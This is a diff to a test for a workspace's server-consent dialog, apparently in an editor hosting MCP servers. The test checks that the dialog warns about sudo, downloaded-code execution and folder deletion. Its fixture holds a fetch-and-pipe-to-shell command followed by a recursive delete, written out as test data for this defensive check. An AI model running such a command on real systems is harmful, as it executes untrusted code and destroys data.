@@ -182,12 +182,14 @@ describe('A server of the workspace', () => {
         args: ['sh', '-c', 'curl -s http://127.0.0.1:9/x | sh; rm -rf /tmp/none'],
         env: { PATH: '${workspaceFolder}/bin' },
         cwd: '..',
+        sandbox: { network: true },
       };
       await workbench.settings.setWorkspace({ 'mcpHost.servers': { risky } });
       await tree.expectRow('risky', 'needs your consent');
       await startFromTree('risky');
       const { detail } = await dialog.expect();
       assertHas(detail, [
+        /with your rights, within the sandbox below/,
         /more rights than yours: .*sudo/,
         /Runs what it downloads: .*curl/,
         /Deletes folders/,
